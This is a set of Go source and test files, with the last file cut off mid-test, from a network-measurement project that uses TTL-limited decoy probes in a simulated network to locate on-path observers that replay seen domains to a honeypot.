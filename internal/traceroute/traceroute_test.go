package traceroute

import (
	"testing"
	"time"

	"shadowmeter/internal/decoy"
	"shadowmeter/internal/dnswire"
	"shadowmeter/internal/netsim"
	"shadowmeter/internal/vantage"
	"shadowmeter/internal/wire"
)

var t0 = time.Date(2024, 3, 1, 0, 0, 0, 0, time.UTC)

// rig builds a 5-router path from a VP to a DNS destination.
type rig struct {
	n       *netsim.Network
	routers []*netsim.Router
	vp      *vantage.VP
	dst     wire.Endpoint
	engine  *Engine
}

func newRig(t *testing.T, silentHops map[int]bool) *rig {
	t.Helper()
	routers := make([]*netsim.Router, 5)
	for i := range routers {
		routers[i] = &netsim.Router{
			Name:       "r",
			Addr:       wire.AddrFrom(10, 0, 0, byte(i+1)),
			ICMPSilent: silentHops[i+1],
		}
	}
	n := netsim.New(netsim.Config{Start: t0, Path: func(src, dst wire.Addr) []*netsim.Router {
		return routers
	}})
	dstAddr := wire.MustParseAddr("77.88.8.8")
	srv := netsim.NewHost(n, dstAddr)
	srv.ServeUDP(53, func(n *netsim.Network, from wire.Endpoint, payload []byte) []byte {
		q, err := dnswire.Decode(payload)
		if err != nil {
			return nil
		}
		resp := dnswire.NewResponse(q, dnswire.RcodeNoError)
		raw, _ := resp.Encode()
		return raw
	})
	prov := &vantage.Provider{Name: "test", Market: vantage.Global}
	vpAddr := wire.MustParseAddr("100.64.0.1")
	vp := &vantage.VP{Provider: prov, Host: netsim.NewHost(n, vpAddr), Addr: vpAddr}
	gen := decoy.NewGenerator("experiment.domain", t0)
	return &rig{n: n, routers: routers, vp: vp, dst: wire.Endpoint{Addr: dstAddr, Port: 53}, engine: NewEngine(gen)}
}

func TestSweepCollectsHops(t *testing.T) {
	r := newRig(t, nil)
	r.engine.MaxTTL = 10
	s, err := r.engine.Sweep(r.n, r.vp, r.dst, decoy.DNS)
	if err != nil {
		t.Fatal(err)
	}
	r.n.RunUntilIdle()
	// Hops 1..5 respond with ICMP; TTL >= 6 reaches the resolver.
	for hop := 1; hop <= 5; hop++ {
		if got := s.HopAddr(hop); got != r.routers[hop-1].Addr {
			t.Errorf("hop %d addr = %v, want %v", hop, got, r.routers[hop-1].Addr)
		}
	}
	if d := s.DestDistance(); d != 6 {
		t.Errorf("DestDistance = %d, want 6", d)
	}
	if len(s.Probes) != 10 {
		t.Errorf("probes = %d", len(s.Probes))
	}
	// Every TTL >= 6 got a resolver reply.
	for ttl := uint8(6); ttl <= 10; ttl++ {
		if !s.DestReplied[ttl] {
			t.Errorf("TTL %d not marked as destination-replied", ttl)
		}
	}
	// Labels are unique per TTL and decode back to the right TTL.
	labels := s.Labels()
	if len(labels) != 10 {
		t.Errorf("labels = %d", len(labels))
	}
	for label, ttl := range labels {
		id, err := r.engine.Gen.Codec().Decode(label)
		if err != nil {
			t.Fatalf("label %q: %v", label, err)
		}
		if id.TTL != ttl {
			t.Errorf("label TTL %d != probe TTL %d", id.TTL, ttl)
		}
	}
}

func TestSweepSilentRouters(t *testing.T) {
	r := newRig(t, map[int]bool{3: true})
	r.engine.MaxTTL = 8
	s, err := r.engine.Sweep(r.n, r.vp, r.dst, decoy.DNS)
	if err != nil {
		t.Fatal(err)
	}
	r.n.RunUntilIdle()
	if got := s.HopAddr(3); !got.IsZero() {
		t.Errorf("silent hop revealed: %v", got)
	}
	if got := s.HopAddr(2); got.IsZero() {
		t.Error("hop 2 missing")
	}
	if d := s.DestDistance(); d != 6 {
		t.Errorf("DestDistance = %d, want 6", d)
	}
}

func TestSweepRawTCPMode(t *testing.T) {
	r := newRig(t, nil)
	r.engine.MaxTTL = 8
	s, err := r.engine.Sweep(r.n, r.vp, wire.Endpoint{Addr: r.dst.Addr, Port: 443}, decoy.TLS)
	if err != nil {
		t.Fatal(err)
	}
	r.n.RunUntilIdle()
	// No destination replies (no handshake), but ICMP gives distance 6.
	if len(s.DestReplied) != 0 {
		t.Errorf("raw TCP sweep saw dest replies: %v", s.DestReplied)
	}
	if d := s.DestDistance(); d != 6 {
		t.Errorf("DestDistance = %d, want 6", d)
	}
}

func TestAnalyzeMidPathObserver(t *testing.T) {
	r := newRig(t, nil)
	r.engine.MaxTTL = 10
	s, _ := r.engine.Sweep(r.n, r.vp, r.dst, decoy.DNS)
	r.n.RunUntilIdle()

	// Ground truth: an observer at hop 3 leaks every probe with TTL >= 3.
	leaked := make(map[string]bool)
	for label, ttl := range s.Labels() {
		if ttl >= 3 {
			leaked[label] = true
		}
	}
	res := Analyze(s, leaked)
	if res.ObserverHop != 3 {
		t.Errorf("ObserverHop = %d, want 3", res.ObserverHop)
	}
	if res.AtDestination {
		t.Error("mid-path observer classified at destination")
	}
	if res.ObserverAddr != r.routers[2].Addr {
		t.Errorf("ObserverAddr = %v, want %v", res.ObserverAddr, r.routers[2].Addr)
	}
	if res.NormalizedHop != 5 { // ceil(3/6*10) = 5
		t.Errorf("NormalizedHop = %d, want 5", res.NormalizedHop)
	}
}

func TestAnalyzeDestinationObserver(t *testing.T) {
	r := newRig(t, nil)
	r.engine.MaxTTL = 10
	s, _ := r.engine.Sweep(r.n, r.vp, r.dst, decoy.DNS)
	r.n.RunUntilIdle()
	// Only probes that actually reached the destination (TTL >= 6) leak.
	leaked := make(map[string]bool)
	for label, ttl := range s.Labels() {
		if ttl >= 6 {
			leaked[label] = true
		}
	}
	res := Analyze(s, leaked)
	if !res.AtDestination {
		t.Fatalf("not classified at destination: %+v", res)
	}
	if res.NormalizedHop != 10 {
		t.Errorf("NormalizedHop = %d, want 10", res.NormalizedHop)
	}
	if !res.ObserverAddr.IsZero() {
		t.Errorf("destination observer should have no router addr, got %v", res.ObserverAddr)
	}
}

func TestAnalyzeNoLeak(t *testing.T) {
	r := newRig(t, nil)
	r.engine.MaxTTL = 6
	s, _ := r.engine.Sweep(r.n, r.vp, r.dst, decoy.DNS)
	r.n.RunUntilIdle()
	res := Analyze(s, nil)
	if res.ObserverHop != 0 || res.AtDestination {
		t.Errorf("clean path misclassified: %+v", res)
	}
}

func TestNormalizeHop(t *testing.T) {
	cases := []struct {
		hop, dist, want int
	}{
		{1, 10, 1}, {5, 10, 5}, {9, 10, 9}, {10, 10, 10}, {12, 10, 10},
		{3, 6, 5}, {1, 6, 2}, {5, 6, 9}, {6, 6, 10},
		{2, 0, 2}, {15, 0, 10},
	}
	for _, tc := range cases {
		if got := NormalizeHop(tc.hop, tc.dist); got != tc.want {
			t.Errorf("NormalizeHop(%d, %d) = %d, want %d", tc.hop, tc.dist, got, tc.want)
		}
	}
}

func TestProbeIDRoundTrip(t *testing.T) {
	for serial := uint16(0); serial < 1024; serial += 97 {
		for ttl := uint8(1); ttl <= 64; ttl += 7 {
			gotSerial, gotTTL := splitProbeID(probeID(serial, ttl))
			if gotSerial != serial || gotTTL != ttl {
				t.Fatalf("roundtrip (%d,%d) -> (%d,%d)", serial, ttl, gotSerial, gotTTL)
			}
		}
	}
}

func TestMultipleSweepsSameVP(t *testing.T) {
	r := newRig(t, nil)
	r.engine.MaxTTL = 6
	s1, _ := r.engine.Sweep(r.n, r.vp, r.dst, decoy.DNS)
	s2, _ := r.engine.Sweep(r.n, r.vp, wire.Endpoint{Addr: r.dst.Addr, Port: 443}, decoy.TLS)
	r.n.RunUntilIdle()
	if s1.DestDistance() != 6 || s2.DestDistance() != 6 {
		t.Errorf("distances = %d, %d", s1.DestDistance(), s2.DestDistance())
	}
	// Hop evidence must not bleed between sweeps.
	if len(s1.HopAddrs) != 5 || len(s2.HopAddrs) != 5 {
		t.Errorf("hop counts = %d, %d", len(s1.HopAddrs), len(s2.HopAddrs))
	}
}

func TestSweepMaxTTLBound(t *testing.T) {
	r := newRig(t, nil)
	r.engine.MaxTTL = 65
	if _, err := r.engine.Sweep(r.n, r.vp, r.dst, decoy.DNS); err == nil {
		t.Error("MaxTTL > 64 should be rejected")
	}
}

func BenchmarkSweep(b *testing.B) {
	routers := make([]*netsim.Router, 8)
	for i := range routers {
		routers[i] = &netsim.Router{Addr: wire.AddrFrom(10, 0, 0, byte(i+1))}
	}
	n := netsim.New(netsim.Config{Start: t0, Path: func(src, dst wire.Addr) []*netsim.Router { return routers }})
	dstAddr := wire.MustParseAddr("77.88.8.8")
	srv := netsim.NewHost(n, dstAddr)
	srv.ServeUDP(53, func(n *netsim.Network, from wire.Endpoint, payload []byte) []byte { return payload })
	prov := &vantage.Provider{Name: "bench"}
	vp := &vantage.VP{Provider: prov, Host: netsim.NewHost(n, wire.MustParseAddr("100.64.0.1")), Addr: wire.MustParseAddr("100.64.0.1")}
	engine := NewEngine(decoy.NewGenerator("experiment.domain", t0))
	engine.MaxTTL = 32
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, err := engine.Sweep(n, vp, wire.Endpoint{Addr: dstAddr, Port: 53}, decoy.DNS); err != nil {
			b.Fatal(err)
		}
		n.RunUntilIdle()
	}
}
