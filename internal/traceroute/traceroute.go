// Package traceroute implements Phase II of the methodology: locating
// on-path traffic observers hop by hop. From the VP of a problematic path
// it re-sends decoys with initial TTL = 1..MaxTTL; each TTL value yields a
// fresh identifier (the TTL is baked into the encoded label), so honeypot
// captures can later be mapped to the exact probe that leaked. ICMP Time
// Exceeded responses reveal router addresses per hop.
//
// The package produces Sweep records; deciding which hop hosts the
// observer (minimum leaking TTL) and normalizing hop positions to the
// paper's 1..10 scale happens in Analyze, consuming honeypot evidence.
package traceroute

import (
	"fmt"
	"sync"
	"time"

	"shadowmeter/internal/decoy"
	"shadowmeter/internal/netsim"
	"shadowmeter/internal/telemetry"
	"shadowmeter/internal/vantage"
	"shadowmeter/internal/wire"
)

// Probe is one TTL-limited decoy emission within a sweep.
type Probe struct {
	TTL    uint8
	Label  string
	Domain string
	SentAt time.Time
}

// Sweep is the record of one hop-by-hop traceroute over a (VP, destination,
// protocol) path.
type Sweep struct {
	VP    *vantage.VP
	Dst   wire.Endpoint
	Proto decoy.Protocol

	mu       sync.Mutex
	Probes   map[uint8]*Probe    // by TTL
	HopAddrs map[uint8]wire.Addr // router addresses from ICMP, by hop
	// DestReplied records TTLs whose probe was answered by the destination
	// (DNS sweeps only — raw TCP probes are intentionally handshake-less).
	DestReplied map[uint8]bool

	serial uint16
}

// DestDistance infers the destination's hop distance: one past the farthest
// hop that returned ICMP Time Exceeded, or the smallest TTL whose probe the
// destination answered, whichever evidence is available. Returns 0 when the
// sweep saw nothing at all.
func (s *Sweep) DestDistance() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	maxHop := 0
	for hop := range s.HopAddrs {
		if int(hop) > maxHop {
			maxHop = int(hop)
		}
	}
	minReply := 0
	for ttl := range s.DestReplied {
		if minReply == 0 || int(ttl) < minReply {
			minReply = int(ttl)
		}
	}
	switch {
	case minReply > 0 && maxHop > 0:
		if minReply <= maxHop {
			return minReply
		}
		return maxHop + 1
	case minReply > 0:
		return minReply
	case maxHop > 0:
		return maxHop + 1
	default:
		return 0
	}
}

// HopAddr returns the router address revealed at a hop (zero when the
// router was ICMP-silent).
func (s *Sweep) HopAddr(hop int) wire.Addr {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.HopAddrs[uint8(hop)]
}

// Labels returns label -> TTL for every probe of the sweep.
func (s *Sweep) Labels() map[string]uint8 {
	s.mu.Lock()
	defer s.mu.Unlock()
	out := make(map[string]uint8, len(s.Probes))
	for ttl, p := range s.Probes {
		out[p.Label] = ttl
	}
	return out
}

// Engine schedules sweeps. One engine serves many VPs; it installs a
// demultiplexing ICMP handler on each VP it touches.
type Engine struct {
	Gen *decoy.Generator
	// MaxTTL bounds the sweep (paper: 64). 0 means 64.
	MaxTTL int
	// ProbeSpacing is the virtual-time gap between consecutive TTL probes
	// (rate limiting, Appendix A). 0 means 500ms.
	ProbeSpacing time.Duration
	// Telemetry receives sweep/probe counters. Nil disables instrumentation
	// (the engine lazily creates handles under e.mu on first use).
	Telemetry *telemetry.Set

	mu       sync.Mutex
	attached map[*vantage.VP]map[uint16]*Sweep // by VP, then by sweep serial
	serials  map[*vantage.VP]uint16
	m        *engineMetrics
}

type engineMetrics struct {
	sweepsLaunched *telemetry.Counter
	sweepsAnalyzed *telemetry.Counter
	probesSent     *telemetry.Counter
	icmpHops       *telemetry.Counter
	destReplies    *telemetry.Counter
	silentHops     *telemetry.Counter
	observersFound *telemetry.Counter
}

// metrics returns the engine's counter handles, creating them on first
// use. Callers must hold e.mu. Returns nil when no Set is attached.
func (e *Engine) metrics() *engineMetrics {
	if e.Telemetry == nil {
		return nil
	}
	if e.m == nil {
		reg := e.Telemetry.Registry
		e.m = &engineMetrics{
			sweepsLaunched: reg.Counter("traceroute_sweeps_launched_total", "TTL sweeps scheduled by the engine"),
			sweepsAnalyzed: reg.Counter("traceroute_sweeps_analyzed_total", "sweeps joined with honeypot evidence"),
			probesSent:     reg.Counter("traceroute_probes_sent_total", "TTL-limited decoy probes emitted"),
			icmpHops:       reg.Counter("traceroute_icmp_hops_total", "hops revealed by ICMP Time Exceeded"),
			destReplies:    reg.Counter("traceroute_dest_replies_total", "probes answered by the destination"),
			silentHops:     reg.Counter("traceroute_silent_hops_total", "hops on analyzed paths that stayed ICMP-silent"),
			observersFound: reg.Counter("traceroute_observers_located_total", "analyzed sweeps that located an observer hop"),
		}
	}
	return e.m
}

// NewEngine builds an engine over the shared decoy generator.
func NewEngine(gen *decoy.Generator) *Engine {
	return &Engine{
		Gen:      gen,
		attached: make(map[*vantage.VP]map[uint16]*Sweep),
		serials:  make(map[*vantage.VP]uint16),
	}
}

const serialBits = 9 // 512 concurrent sweeps per VP, 6 bits of TTL

// Sweep schedules a full TTL sweep from vp toward dst over proto and
// returns the live record. The caller advances the network; the record
// fills in as ICMP evidence arrives.
func (e *Engine) Sweep(n *netsim.Network, vp *vantage.VP, dst wire.Endpoint, proto decoy.Protocol) (*Sweep, error) {
	maxTTL := e.MaxTTL
	if maxTTL <= 0 {
		maxTTL = 64
	}
	if maxTTL > 64 {
		return nil, fmt.Errorf("traceroute: max TTL %d exceeds 64", maxTTL)
	}
	spacing := e.ProbeSpacing
	if spacing == 0 {
		spacing = 500 * time.Millisecond
	}

	s := &Sweep{
		VP: vp, Dst: dst, Proto: proto,
		Probes:      make(map[uint8]*Probe),
		HopAddrs:    make(map[uint8]wire.Addr),
		DestReplied: make(map[uint8]bool),
	}

	e.mu.Lock()
	serial := e.serials[vp] % (1 << serialBits)
	e.serials[vp]++
	s.serial = serial
	sweeps, ok := e.attached[vp]
	if !ok {
		sweeps = make(map[uint16]*Sweep)
		e.attached[vp] = sweeps
		vp.Host.OnICMP(func(n *netsim.Network, pkt *wire.Packet) {
			e.handleICMP(vp, pkt)
		})
	}
	sweeps[serial] = s
	if m := e.metrics(); m != nil {
		m.sweepsLaunched.Inc()
	}
	e.mu.Unlock()

	for ttl := 1; ttl <= maxTTL; ttl++ {
		ttl := uint8(ttl)
		delay := time.Duration(int(ttl)-1) * spacing
		n.Schedule(delay, func() {
			e.sendProbe(n, s, ttl)
		})
	}
	return s, nil
}

func (e *Engine) sendProbe(n *netsim.Network, s *Sweep, ttl uint8) {
	d, err := e.Gen.Generate(s.Proto, n.Now(), s.VP.Addr, s.Dst, ttl)
	if err != nil {
		return
	}
	s.mu.Lock()
	s.Probes[ttl] = &Probe{TTL: ttl, Label: d.Label, Domain: d.Domain, SentAt: n.Now()}
	s.mu.Unlock()

	e.mu.Lock()
	m := e.metrics()
	if m != nil {
		m.probesSent.Inc()
	}
	e.mu.Unlock()

	ipID := probeID(s.serial, ttl)
	switch s.Proto {
	case decoy.DNS:
		// A per-probe waiter maps any resolver response back to this exact
		// TTL, giving direct destination-distance evidence.
		s.VP.SendUDPRequest(n, s.Dst, d.Payload, netsim.UDPRequestOpts{
			TTL: ttl, IPID: ipID, Timeout: 10 * time.Second,
			OnReply: func(n *netsim.Network, _ []byte) {
				s.mu.Lock()
				s.DestReplied[ttl] = true
				s.mu.Unlock()
				if m != nil {
					m.destReplies.Inc()
				}
			},
		})
	case decoy.HTTP, decoy.TLS:
		// No TCP handshake before tracerouting (Section 3): a bare data
		// packet keeps destination connections out of the experiment.
		s.VP.SendRawTCP(n, s.Dst, ttl, ipID, d.Payload)
	}
}

// handleICMP routes a Time Exceeded message to the sweep that sent the
// quoted probe.
func (e *Engine) handleICMP(vp *vantage.VP, pkt *wire.Packet) {
	if pkt.ICMP == nil || pkt.ICMP.Type != wire.ICMPTimeExceeded {
		return
	}
	quoted, err := pkt.ICMP.QuotedIPv4()
	if err != nil {
		return
	}
	serial, ttl := splitProbeID(quoted.ID)
	e.mu.Lock()
	s := e.attached[vp][serial]
	m := e.metrics()
	e.mu.Unlock()
	if s == nil || s.Dst.Addr != quoted.Dst {
		return
	}
	s.mu.Lock()
	// The probe with initial TTL t expires at hop t; the ICMP source is
	// that hop's router.
	if _, dup := s.HopAddrs[ttl]; !dup {
		s.HopAddrs[ttl] = pkt.IP.Src
		if m != nil {
			m.icmpHops.Inc()
		}
	}
	s.mu.Unlock()
}

// probeID packs (sweep serial, TTL) into a nonzero IP ID. The serial is
// stored +1 so the ID can never be zero (zero tells the Host to auto-assign
// an ID, which would break ICMP correlation).
func probeID(serial uint16, ttl uint8) uint16 {
	return (serial+1)<<6 | uint16(ttl-1)&0x3F
}

func splitProbeID(id uint16) (serial uint16, ttl uint8) {
	return id>>6 - 1, uint8(id&0x3F) + 1
}

// Result is the analyzed outcome of one sweep joined with honeypot
// evidence.
type Result struct {
	Sweep *Sweep
	// ObserverHop is the smallest TTL whose probe leaked (0 = no leak).
	ObserverHop int
	// AtDestination is true when leakage only occurs once probes reach the
	// destination.
	AtDestination bool
	// ObserverAddr is the ICMP-revealed router address of the observer hop
	// (zero when silent or at destination).
	ObserverAddr wire.Addr
	// NormalizedHop maps the observer position onto the paper's 1..10
	// scale, where 10 means destination.
	NormalizedHop int
	// DestDistance is the inferred hop distance to the destination.
	DestDistance int
	// SilentHops counts hops in [1, DestDistance-1] that returned no ICMP
	// Time Exceeded — a path-quality signal (filled by Engine.Analyze).
	SilentHops int
}

// Analyze joins a sweep with the set of leaked labels (labels of this
// sweep's probes that later appeared in unsolicited requests) and locates
// the observer.
func Analyze(s *Sweep, leaked map[string]bool) Result {
	res := Result{Sweep: s, DestDistance: s.DestDistance()}
	byLabel := s.Labels()
	minTTL := 0
	for label, ttl := range byLabel {
		if !leaked[label] {
			continue
		}
		if minTTL == 0 || int(ttl) < minTTL {
			minTTL = int(ttl)
		}
	}
	if minTTL == 0 {
		return res
	}
	res.ObserverHop = minTTL
	if res.DestDistance > 0 && minTTL >= res.DestDistance {
		res.AtDestination = true
		res.ObserverHop = res.DestDistance
		res.NormalizedHop = 10
		return res
	}
	res.ObserverAddr = s.HopAddr(minTTL)
	res.NormalizedHop = NormalizeHop(minTTL, res.DestDistance)
	return res
}

// Analyze joins the sweep with leaked labels via the package-level
// Analyze, then fills SilentHops and folds the outcome into the engine's
// telemetry counters.
func (e *Engine) Analyze(s *Sweep, leaked map[string]bool) Result {
	res := Analyze(s, leaked)
	res.SilentHops = countSilentHops(s, res.DestDistance)
	e.mu.Lock()
	if m := e.metrics(); m != nil {
		m.sweepsAnalyzed.Inc()
		m.silentHops.Add(int64(res.SilentHops))
		if res.ObserverHop > 0 {
			m.observersFound.Inc()
		}
	}
	e.mu.Unlock()
	return res
}

// countSilentHops counts hops in [1, destDistance-1] that returned no
// ICMP Time Exceeded. Zero when the destination distance is unknown.
func countSilentHops(s *Sweep, destDistance int) int {
	if destDistance <= 1 {
		return 0
	}
	silent := 0
	s.mu.Lock()
	for hop := 1; hop < destDistance; hop++ {
		if _, ok := s.HopAddrs[uint8(hop)]; !ok {
			silent++
		}
	}
	s.mu.Unlock()
	return silent
}

// NormalizeHop maps hop (1-based) on a path of destDistance hops onto the
// 1..10 scale of Table 2 (10 = destination).
func NormalizeHop(hop, destDistance int) int {
	if destDistance <= 0 {
		// Without distance evidence, clamp the raw hop.
		if hop > 10 {
			return 10
		}
		if hop < 1 {
			return 1
		}
		return hop
	}
	if hop >= destDistance {
		return 10
	}
	n := (hop*10 + destDistance - 1) / destDistance // ceil(hop/dist*10)
	if n < 1 {
		n = 1
	}
	if n > 9 {
		n = 9 // positions short of the destination never normalize to 10
	}
	return n
}
