package observer

import (
	"math/rand"
	"testing"
	"time"

	"shadowmeter/internal/decoy"
	"shadowmeter/internal/dnswire"
	"shadowmeter/internal/geodb"
	"shadowmeter/internal/httpwire"
	"shadowmeter/internal/netsim"
	"shadowmeter/internal/resolversim"
	"shadowmeter/internal/tlswire"
	"shadowmeter/internal/wire"
)

var t0 = time.Date(2024, 3, 1, 0, 0, 0, 0, time.UTC)

func TestDelayDistSample(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	d := DelayDist{Ranges: []DelayRange{
		{Min: time.Second, Max: 2 * time.Second, Weight: 1},
		{Min: 24 * time.Hour, Max: 48 * time.Hour, Weight: 1},
	}}
	short, long := 0, 0
	for i := 0; i < 1000; i++ {
		v := d.Sample(rng)
		switch {
		case v >= time.Second && v < 2*time.Second:
			short++
		case v >= 24*time.Hour && v < 48*time.Hour:
			long++
		default:
			t.Fatalf("sample %v outside both ranges", v)
		}
	}
	if short < 400 || long < 400 {
		t.Errorf("mixture skewed: short=%d long=%d", short, long)
	}
}

func TestDelayDistDegenerate(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	if got := (DelayDist{}).Sample(rng); got != 0 {
		t.Errorf("empty dist = %v", got)
	}
	d := DelayDist{Ranges: []DelayRange{{Min: time.Minute, Max: time.Minute, Weight: 1}}}
	if got := d.Sample(rng); got != time.Minute {
		t.Errorf("point dist = %v", got)
	}
}

func TestCountDist(t *testing.T) {
	rng := rand.New(rand.NewSource(2))
	c := CountDist{Min: 3, Max: 10}
	for i := 0; i < 100; i++ {
		v := c.Sample(rng)
		if v < 3 || v > 10 {
			t.Fatalf("count %d out of range", v)
		}
	}
	if got := (CountDist{Min: 5}).Sample(rng); got != 5 {
		t.Errorf("degenerate = %d", got)
	}
}

// testRig builds a flat net with a honeypot-style auth+web pair and a
// resolver the exhibitor origins use.
type testRig struct {
	n        *netsim.Network
	resolver wire.Addr
	authLog  *[]string // qnames arriving at auth
	webLog   *[]string // "proto path" arriving at web
	webAddr  wire.Addr
}

func newRig(t *testing.T) *testRig {
	t.Helper()
	n := netsim.New(netsim.Config{Start: t0})
	registry := resolversim.NewRegistry()

	authLog := &[]string{}
	webLog := &[]string{}
	authAddr := wire.MustParseAddr("198.51.100.1")
	webAddr := wire.MustParseAddr("198.51.100.2")

	auth := netsim.NewHost(n, authAddr)
	auth.ServeUDP(53, func(n *netsim.Network, from wire.Endpoint, payload []byte) []byte {
		q, err := dnswire.Decode(payload)
		if err != nil {
			return nil
		}
		*authLog = append(*authLog, q.QName())
		resp := dnswire.NewResponse(q, dnswire.RcodeNoError)
		resp.Answers = append(resp.Answers, dnswire.RR{Name: q.QName(), Type: dnswire.TypeA, TTL: 3600, Addr: webAddr})
		raw, _ := resp.Encode()
		return raw
	})
	registry.Delegate("experiment.domain", authAddr)

	web := netsim.NewHost(n, webAddr)
	web.ServeTCP(80, func(n *netsim.Network, from wire.Endpoint, payload []byte) []byte {
		req, err := httpwire.ParseRequest(payload)
		if err != nil {
			return nil
		}
		*webLog = append(*webLog, "HTTP "+req.Path)
		return httpwire.NewResponse(404, "nope").Encode()
	})
	web.ServeTCP(443, func(n *netsim.Network, from wire.Endpoint, payload []byte) []byte {
		ch, err := tlswire.ParseClientHello(payload)
		if err != nil {
			return nil
		}
		*webLog = append(*webLog, "TLS "+ch.ServerName)
		sh := tlswire.ServerHello{Version: tlswire.VersionTLS12, CipherSuite: 0x1301}
		return sh.Encode()
	})

	// Recursive resolver used by probe origins.
	svc := resolversim.NewService(n, "resolver", wire.MustParseAddr("8.8.8.8"), registry, geodb.New())
	egress := netsim.NewHost(n, wire.MustParseAddr("8.8.9.1"))
	svc.AddInstance(&resolversim.Instance{Name: "default", Egress: []*netsim.Host{egress}})

	return &testRig{n: n, resolver: wire.MustParseAddr("8.8.8.8"), authLog: authLog, webLog: webLog, webAddr: webAddr}
}

func TestExhibitorDNSProbe(t *testing.T) {
	rig := newRig(t)
	origin := Origin{Host: netsim.NewHost(rig.n, wire.MustParseAddr("100.64.0.9")), Resolver: rig.resolver}
	ex := NewExhibitor(Profile{
		Name: "dns-prober",
		Rules: []ProbeRule{{
			Kind: ProbeDNS, Prob: 1,
			Delay: DelayDist{Ranges: []DelayRange{{Min: time.Hour, Max: time.Hour, Weight: 1}}},
			Count: CountDist{Min: 2, Max: 2},
		}},
	}, []Origin{origin}, 1)

	ex.ObserveDomain(rig.n, "abc.www.experiment.domain")
	rig.n.RunUntilIdle()

	if got := len(*rig.authLog); got != 2 {
		t.Fatalf("auth saw %d queries, want 2", got)
	}
	if (*rig.authLog)[0] != "abc.www.experiment.domain" {
		t.Errorf("qname = %q", (*rig.authLog)[0])
	}
	if s := ex.Stats(); s.Observed != 1 || s.ProbesLaunched != 2 {
		t.Errorf("stats = %+v", s)
	}
	// Delay respected: virtual clock advanced at least an hour.
	if rig.n.Now().Sub(t0) < time.Hour {
		t.Errorf("clock only advanced %v", rig.n.Now().Sub(t0))
	}
}

func TestExhibitorHTTPProbeResolvesThenFetches(t *testing.T) {
	rig := newRig(t)
	origin := Origin{Host: netsim.NewHost(rig.n, wire.MustParseAddr("100.64.0.9")), Resolver: rig.resolver}
	ex := NewExhibitor(Profile{
		Name: "http-prober",
		Rules: []ProbeRule{{
			Kind: ProbeHTTP, Prob: 1,
			Delay: DelayDist{Ranges: []DelayRange{{Min: time.Minute, Max: time.Minute, Weight: 1}}},
			Count: CountDist{Min: 3, Max: 3},
		}},
	}, []Origin{origin}, 7)

	ex.ObserveDomain(rig.n, "xyz.www.experiment.domain")
	rig.n.RunUntilIdle()

	// Each HTTP probe resolves first (3 DNS at auth) then fetches (3 HTTP).
	if got := len(*rig.authLog); got != 3 {
		t.Errorf("auth saw %d queries, want 3", got)
	}
	if got := len(*rig.webLog); got != 3 {
		t.Fatalf("web saw %d requests, want 3", got)
	}
	for _, e := range *rig.webLog {
		if e[:5] != "HTTP " {
			t.Errorf("entry = %q", e)
		}
	}
}

func TestExhibitorHTTPSProbe(t *testing.T) {
	rig := newRig(t)
	origin := Origin{Host: netsim.NewHost(rig.n, wire.MustParseAddr("100.64.0.9")), Resolver: rig.resolver}
	ex := NewExhibitor(Profile{
		Name: "https-prober",
		Rules: []ProbeRule{{
			Kind: ProbeHTTPS, Prob: 1,
			Delay: DelayDist{Ranges: []DelayRange{{Min: 0, Max: 0, Weight: 1}}},
			Count: CountDist{Min: 1, Max: 1},
		}},
	}, []Origin{origin}, 3)

	ex.ObserveDomain(rig.n, "tls.www.experiment.domain")
	rig.n.RunUntilIdle()
	if got := len(*rig.webLog); got != 1 || (*rig.webLog)[0] != "TLS tls.www.experiment.domain" {
		t.Fatalf("web log = %v", *rig.webLog)
	}
}

func TestOncePerDomain(t *testing.T) {
	rig := newRig(t)
	origin := Origin{Host: netsim.NewHost(rig.n, wire.MustParseAddr("100.64.0.9")), Resolver: rig.resolver}
	ex := NewExhibitor(Profile{
		Name: "once", OncePerDomain: true,
		Rules: []ProbeRule{{Kind: ProbeDNS, Prob: 1, Count: CountDist{Min: 1, Max: 1}}},
	}, []Origin{origin}, 5)
	ex.ObserveDomain(rig.n, "dup.www.experiment.domain")
	ex.ObserveDomain(rig.n, "dup.www.experiment.domain")
	ex.ObserveDomain(rig.n, "other.www.experiment.domain")
	rig.n.RunUntilIdle()
	if got := len(*rig.authLog); got != 2 {
		t.Errorf("auth saw %d, want 2 (dup suppressed)", got)
	}
}

func TestSampleRate(t *testing.T) {
	rig := newRig(t)
	origin := Origin{Host: netsim.NewHost(rig.n, wire.MustParseAddr("100.64.0.9")), Resolver: rig.resolver}
	ex := NewExhibitor(Profile{
		Name: "sampler", SampleRate: 0.5,
		Rules: []ProbeRule{{Kind: ProbeDNS, Prob: 1, Count: CountDist{Min: 1, Max: 1}}},
	}, []Origin{origin}, 11)
	for i := 0; i < 400; i++ {
		ex.ObserveDomain(rig.n, "d"+string(rune('a'+i%26))+string(rune('a'+(i/26)%26))+string(rune('a'+i/676))+".www.experiment.domain")
	}
	obs := ex.Stats().Observed
	if obs < 120 || obs > 280 {
		t.Errorf("observed = %d of 400, want ~200", obs)
	}
}

func TestExhibitorNoOriginsSafe(t *testing.T) {
	rig := newRig(t)
	ex := NewExhibitor(Profile{Name: "empty"}, nil, 1)
	ex.ObserveDomain(rig.n, "x.www.experiment.domain")
	rig.n.RunUntilIdle()
	if ex.Stats().Observed != 0 {
		t.Error("exhibitor without origins should ignore observations")
	}
}

func TestDeviceSniffsDecoysOnWire(t *testing.T) {
	// Full wire test: a DNS decoy passes a tapped router; the device
	// records the QNAME and probes it later.
	router := &netsim.Router{Name: "tapped", Addr: wire.MustParseAddr("10.0.0.1")}
	n := netsim.New(netsim.Config{Start: t0, Path: func(src, dst wire.Addr) []*netsim.Router {
		return []*netsim.Router{router}
	}})

	authLog := []string{}
	authAddr := wire.MustParseAddr("198.51.100.1")
	auth := netsim.NewHost(n, authAddr)
	auth.ServeUDP(53, func(n *netsim.Network, from wire.Endpoint, payload []byte) []byte {
		q, err := dnswire.Decode(payload)
		if err != nil {
			return nil
		}
		authLog = append(authLog, q.QName())
		resp := dnswire.NewResponse(q, dnswire.RcodeNoError)
		raw, _ := resp.Encode()
		return raw
	})

	origin := Origin{Host: netsim.NewHost(n, wire.MustParseAddr("100.64.0.9")), Resolver: authAddr}
	dev := NewDevice(Profile{
		Name:  "wire-dpi",
		Watch: map[decoy.Protocol]bool{decoy.HTTP: true},
